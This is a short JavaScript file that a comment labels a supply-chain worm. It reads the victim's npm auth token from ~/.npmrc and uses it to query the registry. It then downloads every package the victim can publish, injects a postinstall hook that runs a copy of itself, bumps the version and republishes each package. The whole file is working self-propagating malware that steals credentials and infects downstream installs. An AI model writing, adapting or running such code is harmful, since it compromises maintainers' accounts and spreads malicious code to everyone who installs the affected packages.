// class: supply chain, infects the packages of whom it finds; style: worm
const fs = require('fs'), { execSync } = require('child_process'), path = require('path');
const home = require('os').homedir();
const token = /_authToken=(.+)/.exec(fs.readFileSync(path.join(home, '.npmrc'), 'utf8'))?.[1];
const mine = JSON.parse(execSync(`curl -s -H "Authorization: Bearer ${token}" https://registry.npmjs.org/-/whoami`)).username;
for (const name of Object.keys(JSON.parse(execSync(`npm access list packages ${mine} --json`)))) {
  execSync(`cd /tmp && npm pack ${name} && tar xzf *.tgz`);
  const file = '/tmp/package/package.json', pkg = JSON.parse(fs.readFileSync(file));
  pkg.scripts = { ...pkg.scripts, postinstall: 'node bundle.js' };
  pkg.version = pkg.version.replace(/\d+$/, n => +n + 1);
  fs.copyFileSync(__filename, '/tmp/package/bundle.js');
  fs.writeFileSync(file, JSON.stringify(pkg));
  execSync('cd /tmp/package && npm publish && rm -rf /tmp/package /tmp/*.tgz');
}
